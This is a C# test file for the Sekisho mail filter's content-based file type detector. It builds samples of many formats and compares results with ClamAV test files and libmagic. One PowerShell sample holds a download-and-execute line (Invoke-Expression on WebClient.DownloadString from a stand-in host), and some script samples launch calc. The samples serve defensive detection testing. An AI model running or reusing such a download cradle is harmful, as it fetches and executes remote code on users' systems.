using System.Buffers.Binary;
using System.Diagnostics;
using System.Formats.Tar;
using System.IO.Compression;
using System.Text;
using Sekisho.Testing;

namespace Sekisho.Mail.Tests;

public sealed class TrueFileTypeTests
{
    [Fact]
    public void Vocabulary_matches_the_export_format_identifiers_in_order()
    {
        var expected = "exe dll msi lnk com elf java_class jar vbs js wsf bat ps1 hta doc docx xls xlsx ppt pptx docm xlsm pptm rtf pdf odf zip rar 7z gz bz2 xz tar cab lzh arj iso jpeg png gif bmp tiff html xml eml tnef mp3 mp4 wav avi".Split(' ');
        Assert.Equal(expected, TrueFileTypes.Vocabulary.Select(t => t.Id()));
        foreach (var id in expected)
        {
            Assert.True(TrueFileTypes.TryParse(id.ToUpperInvariant(), out var type));
            Assert.Equal(id, type.Id());
            Assert.True(type.IsInVocabulary());
        }
        Assert.False(TrueFileTypes.TryParse("docx2", out _));
        Assert.False(TrueFileType.Unknown.IsInVocabulary());
        Assert.Equal(TrueFileTypeCategory.Archive, TrueFileType.SevenZip.Category());
    }

    [Theory]
    [InlineData("clam.exe", TrueFileType.Exe)]
    [InlineData("clam.zip", TrueFileType.Zip)]
    [InlineData("clam.7z", TrueFileType.SevenZip)]
    [InlineData("clam.cab", TrueFileType.Cab)]
    [InlineData("clam.arj", TrueFileType.Arj)]
    [InlineData("clam.tar.gz", TrueFileType.Gz)]
    [InlineData("clam.exe.bz2", TrueFileType.Bz2)]
    [InlineData("clam.ole.doc", TrueFileType.Doc)]
    [InlineData("clam.ppt", TrueFileType.Ppt)]
    [InlineData("clam.pdf", TrueFileType.Pdf)]
    [InlineData("clam.tnef", TrueFileType.Tnef)]
    [InlineData("clam.mail", TrueFileType.Eml)]
    [InlineData("clam.exe.rtf", TrueFileType.Rtf)]
    [InlineData("clam.exe.html", TrueFileType.Html)]
    public void ClamAV_carriers_are_recognised_by_content(string file, TrueFileType expected) =>
        Assert.Equal(expected, FileTypeDetector.Detect(Material.ClamAv(file)));

    [Fact]
    public void Pe_with_the_dll_characteristic_is_a_dll_and_the_name_never_matters()
    {
        var exe = Material.ClamAv("clam.exe");
        var dll = (byte[])exe.Clone();
        int lfanew = BinaryPrimitives.ReadInt32LittleEndian(dll.AsSpan(0x3C));
        var characteristics = BinaryPrimitives.ReadUInt16LittleEndian(dll.AsSpan(lfanew + 22));
        BinaryPrimitives.WriteUInt16LittleEndian(dll.AsSpan(lfanew + 22), (ushort)(characteristics | 0x2000));
        Assert.Equal(TrueFileType.Exe, FileTypeDetector.Detect(exe));
        Assert.Equal(TrueFileType.Dll, FileTypeDetector.Detect(dll));
        var facts = Material.InspectAttachment("invoice.pdf", exe);
        Assert.Equal(TrueFileType.Exe, Assert.Single(facts.Attachments).TrueType);
    }

    [Fact]
    public void Eicar_is_a_com_program() => Assert.Equal(TrueFileType.Com, FileTypeDetector.Detect(Material.Eicar()));

    public static TheoryData<string, byte[], TrueFileType> Built() => new()
    {
        { "elf", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3E, 0], TrueFileType.Elf },
        { "java class", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52, 0, 10], TrueFileType.JavaClass },
        { "lnk", [0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46, 0x9B, 0, 0x08, 0], TrueFileType.Lnk },
        { "png", Png(), TrueFileType.Png },
        { "gif", Convert.FromBase64String("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"), TrueFileType.Gif },
        { "jpeg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0], TrueFileType.Jpeg },
        { "bmp", Bmp(), TrueFileType.Bmp },
        { "tiff", [(byte)'I', (byte)'I', 42, 0, 8, 0, 0, 0, 0, 0], TrueFileType.Tiff },
        { "wav", Riff("WAVE"), TrueFileType.Wav },
        { "avi", Riff("AVI "), TrueFileType.Avi },
        { "mp4", [0, 0, 0, 0x18, (byte)'f', (byte)'t', (byte)'y', (byte)'p', (byte)'i', (byte)'s', (byte)'o', (byte)'m', 0, 0, 2, 0, (byte)'i', (byte)'s', (byte)'o', (byte)'m', (byte)'m', (byte)'p', (byte)'4', (byte)'1'], TrueFileType.Mp4 },
        { "mp3", Mp3Frames(), TrueFileType.Mp3 },
        { "iso", Iso(), TrueFileType.Iso },
        { "rar5", [0x52, 0x61, 0x72, 0x21, 0x1A, 0x07, 0x01, 0x00, 0x33, 0x92, 0xB5, 0xE5, 0x0A, 0x01, 0x05, 0x06, 0x00, 0x05, 0x01, 0x01, 0x80, 0x80, 0x00], TrueFileType.Rar },
        { "lzh", Lzh(), TrueFileType.Lzh },
        { "tar", Tar(), TrueFileType.Tar },
        { "gz", Material.Gzip(Material.Utf8("hello")), TrueFileType.Gz },
        { "xz", Material.Fixture("made", "report.txt.xz"), TrueFileType.Xz },
        { "xml", Material.Utf8("<?xml version=\"1.0\"?><invoice><total>5</total></invoice>"), TrueFileType.Xml },
        { "html", Material.Utf8("  <!DOCTYPE html><html><body>hi</body></html>"), TrueFileType.Html },
        { "hta", Material.Utf8("<html><head><HTA:APPLICATION ID=\"x\" APPLICATIONNAME=\"x\"/><script language=\"VBScript\">Sub Window_OnLoad\r\nEnd Sub</script></head></html>"), TrueFileType.Hta },
        { "wsf", Material.Utf8("<job id=\"main\">\r\n<script language=\"JScript\">\r\nWScript.Echo(\"x\");\r\n</script>\r\n</job>\r\n"), TrueFileType.Wsf },
        { "bat", Material.Utf8("@echo off\r\nset TARGET=%TEMP%\\x.exe\r\nif exist \"%TARGET%\" del \"%TARGET%\"\r\ncall :run\r\nexit /b 0\r\n:run\r\necho done\r\n"), TrueFileType.Bat },
        { "ps1", Material.Utf8("[CmdletBinding()]\r\nparam([string]$Path)\r\n$env:TEMP | Write-Host\r\nGet-ChildItem $Path | ForEach-Object { Write-Output $_.Name }\r\nInvoke-Expression (New-Object Net.WebClient).DownloadString('http://x/')\r\n"), TrueFileType.Ps1 },
        { "vbs", Material.Utf8("Option Explicit\r\nOn Error Resume Next\r\nDim shell\r\nSet shell = CreateObject(\"WScript.Shell\")\r\nIf Not shell Is Nothing Then\r\n  shell.Run \"calc.exe\"\r\nEnd If\r\nSub Hello()\r\n  MsgBox \"hi\"\r\nEnd Sub\r\n"), TrueFileType.Vbs },
        { "js", Material.Utf8("var shell = new ActiveXObject(\"WScript.Shell\");\r\nvar fso = WScript.CreateObject(\"Scripting.FileSystemObject\");\r\nconst url = 'http://x/';\r\nshell.Run(\"cmd /c calc\");\r\nif (a === b) { console.log(a); }\r\n"), TrueFileType.Js },
        { "perl is text", Material.Utf8("#!/usr/bin/perl\nsub main { my $x = 1; }\nset x;\n"), TrueFileType.Text },
        { "prose is text", Material.Utf8("Hello,\r\nplease find the figures attached.\r\nRegards\r\n"), TrueFileType.Text },
        { "docx", Material.Ooxml("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", ("word/document.xml", Material.WordDocumentXml("x"))), TrueFileType.Docx },
        { "docm", Material.Ooxml("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", ("word/document.xml", Material.WordDocumentXml("x"))), TrueFileType.Docm },
        { "xlsx", Material.Ooxml("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", ("xl/workbook.xml", "<workbook/>")), TrueFileType.Xlsx },
        { "xlsm", Material.Ooxml("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", ("xl/workbook.xml", "<workbook/>")), TrueFileType.Xlsm },
        { "pptx", Material.Ooxml("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", ("ppt/presentation.xml", "<p/>")), TrueFileType.Pptx },
        { "pptm", Material.Ooxml("ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", ("ppt/presentation.xml", "<p/>")), TrueFileType.Pptm },
        { "odf", Odt("x"), TrueFileType.Odf },
        { "jar", Material.Zip(("META-INF/MANIFEST.MF", Material.Utf8("Manifest-Version: 1.0\r\n")), ("a/B.class", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52])), TrueFileType.Jar },
        { "plain zip", Material.Zip(("a.txt", Material.Utf8("a"))), TrueFileType.Zip },
        { "empty", [], TrueFileType.Unknown },
        { "random", RandomBytes(4096), TrueFileType.Unknown },
    };

    [Theory]
    [MemberData(nameof(Built))]
    public void Built_samples_are_recognised(string what, byte[] content, TrueFileType expected) =>
        Assert.True(expected == FileTypeDetector.Detect(content), $"{what}: expected {expected}, got {FileTypeDetector.Detect(content)}");

    [Fact]
    public void Agrees_with_libmagic_on_the_ClamAV_carriers_and_built_samples()
    {
        // Debian file(1) (libmagic) is the reference Amavis uses; compare MIME types for a sample.
        var map = new Dictionary<string, TrueFileType>
        {
            ["application/vnd.microsoft.portable-executable"] = TrueFileType.Exe, ["application/zip"] = TrueFileType.Zip,
            ["application/x-7z-compressed"] = TrueFileType.SevenZip, ["application/vnd.ms-cab-compressed"] = TrueFileType.Cab,
            ["application/x-arj"] = TrueFileType.Arj, ["application/gzip"] = TrueFileType.Gz, ["application/x-bzip2"] = TrueFileType.Bz2,
            ["application/msword"] = TrueFileType.Doc, ["application/vnd.ms-powerpoint"] = TrueFileType.Ppt, ["application/pdf"] = TrueFileType.Pdf,
            ["application/vnd.ms-tnef"] = TrueFileType.Tnef, ["message/rfc822"] = TrueFileType.Eml, ["text/rtf"] = TrueFileType.Rtf,
            ["text/html"] = TrueFileType.Html, ["image/png"] = TrueFileType.Png, ["image/gif"] = TrueFileType.Gif, ["application/x-tar"] = TrueFileType.Tar,
            ["application/x-xz"] = TrueFileType.Xz, ["image/bmp"] = TrueFileType.Bmp, ["audio/x-wav"] = TrueFileType.Wav,
        };
        using var dir = new TempDir("sekisho-magic");
        var samples = new List<(string Path, byte[] Content)>();
        foreach (var f in new[] { "clam.exe", "clam.zip", "clam.7z", "clam.cab", "clam.arj", "clam.tar.gz", "clam.exe.bz2", "clam.ole.doc", "clam.ppt", "clam.pdf", "clam.tnef", "clam.mail", "clam.exe.rtf", "clam.exe.html" })
            samples.Add((RepoPaths.Fixture("mail", "clamav", f), Material.ClamAv(f)));
        foreach (var (name, content) in new[] { ("a.png", Png()), ("a.tar", Tar()), ("a.bmp", Bmp()), ("a.wav", Riff("WAVE")), ("a.xz", Material.Fixture("made", "report.txt.xz")) })
        {
            File.WriteAllBytes(dir.File(name), content);
            samples.Add((dir.File(name), content));
        }
        int compared = 0;
        foreach (var (path, content) in samples)
        {
            var mime = LibMagic(path);
            Assert.True(map.TryGetValue(mime, out var expected), $"libmagic said {mime} for {path}");
            Assert.True(expected == FileTypeDetector.Detect(content), $"{path}: libmagic {mime}, we said {FileTypeDetector.Detect(content)}");
            compared++;
        }
        Assert.Equal(samples.Count, compared);
    }

    private static string LibMagic(string path)
    {
        var psi = new ProcessStartInfo("file", ["--brief", "--mime-type", path]) { RedirectStandardOutput = true };
        using var p = Process.Start(psi)!;
        var output = p.StandardOutput.ReadToEnd().Trim();
        Assert.True(p.WaitForExit(30_000));
        return output;
    }

    internal static byte[] Png()
    {
        using var ms = new MemoryStream();
        ms.Write([0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A]);
        void Chunk(string type, byte[] data)
        {
            Span<byte> len = stackalloc byte[4];
            BinaryPrimitives.WriteInt32BigEndian(len, data.Length);
            ms.Write(len);
            var typeAndData = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
            ms.Write(typeAndData);
            BinaryPrimitives.WriteUInt32BigEndian(len, Crc32(typeAndData));
            ms.Write(len);
        }
        Chunk("IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
        using var z = new MemoryStream();
        using (var zs = new ZLibStream(z, CompressionLevel.Optimal, true)) zs.Write([0, 0]);
        Chunk("IDAT", z.ToArray());
        Chunk("IEND", []);
        return ms.ToArray();
    }

    private static uint Crc32(byte[] data)
    {
        uint crc = 0xFFFFFFFF;
        foreach (var b in data)
        {
            crc ^= b;
            for (int k = 0; k < 8; k++) crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320 : crc >> 1;
        }
        return ~crc;
    }

    private static byte[] Bmp()
    {
        var b = new byte[58];
        b[0] = (byte)'B'; b[1] = (byte)'M';
        BinaryPrimitives.WriteInt32LittleEndian(b.AsSpan(2), b.Length);
        BinaryPrimitives.WriteInt32LittleEndian(b.AsSpan(10), 54);
        BinaryPrimitives.WriteInt32LittleEndian(b.AsSpan(14), 40);
        BinaryPrimitives.WriteInt32LittleEndian(b.AsSpan(18), 1);
        BinaryPrimitives.WriteInt32LittleEndian(b.AsSpan(22), 1);
        BinaryPrimitives.WriteInt16LittleEndian(b.AsSpan(26), 1);
        BinaryPrimitives.WriteInt16LittleEndian(b.AsSpan(28), 24);
        BinaryPrimitives.WriteInt32LittleEndian(b.AsSpan(34), 4);
        return b;
    }

    private static byte[] Riff(string form)
    {
        using var ms = new MemoryStream();
        var w = new BinaryWriter(ms);
        w.Write("RIFF"u8); w.Write(36 + 4); w.Write(Encoding.ASCII.GetBytes(form));
        w.Write("fmt "u8); w.Write(16); w.Write((short)1); w.Write((short)1); w.Write(8000); w.Write(8000); w.Write((short)1); w.Write((short)8);
        w.Write("data"u8); w.Write(4); w.Write(new byte[] { 128, 128, 128, 128 });
        return ms.ToArray();
    }

    private static byte[] Mp3Frames()
    {
        // Two MPEG-1 Layer III frames, 128 kbit/s, 44.1 kHz: 417 bytes each.
        var frame = new byte[417];
        frame[0] = 0xFF; frame[1] = 0xFB; frame[2] = 0x90; frame[3] = 0x64;
        return [.. frame, .. frame];
    }

    private static byte[] Iso()
    {
        var b = new byte[0x8800];
        b[0x8000] = 1;
        "CD001"u8.CopyTo(b.AsSpan(0x8001));
        b[0x8006] = 1;
        return b;
    }

    private static byte[] Lzh()
    {
        // A level-0 LHarc header for a stored (-lh0-) member "a.txt" holding "hi".
        var name = "a.txt"u8.ToArray();
        var header = new List<byte> { 0, 0 };
        header.AddRange("-lh0-"u8.ToArray());
        header.AddRange(BitConverter.GetBytes(2)); header.AddRange(BitConverter.GetBytes(2));
        header.AddRange(new byte[] { 0, 0, 0, 0, 0x20, 0, (byte)name.Length });
        header.AddRange(name);
        header.AddRange(new byte[] { 0, 0 });
        header[0] = (byte)(header.Count - 2);
        header.AddRange("hi"u8.ToArray());
        header.Add(0);
        return [.. header];
    }

    private static byte[] Tar()
    {
        using var ms = new MemoryStream();
        using (var w = new TarWriter(ms, TarEntryFormat.Ustar, leaveOpen: true))
        {
            var e = new UstarTarEntry(TarEntryType.RegularFile, "notes.txt") { DataStream = new MemoryStream(Material.Utf8("hello tar")) };
            w.WriteEntry(e);
        }
        return ms.ToArray();
    }

    internal static byte[] Odt(string text) => Material.Zip(CompressionLevel.NoCompression,
        ("mimetype", Material.Utf8("application/vnd.oasis.opendocument.text")),
        ("content.xml", Material.Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:body><office:text><text:p>" + text + "</text:p><text:p>second<text:s/>line</text:p></office:text></office:body></office:document-content>")),
        ("META-INF/manifest.xml", Material.Utf8("<?xml version=\"1.0\"?><manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\"/>")));

    internal static byte[] RandomBytes(int n)
    {
        var b = new byte[n];
        new Random(12345).NextBytes(b);
        b[0] = 0x01; // not a signature byte
        return b;
    }
}
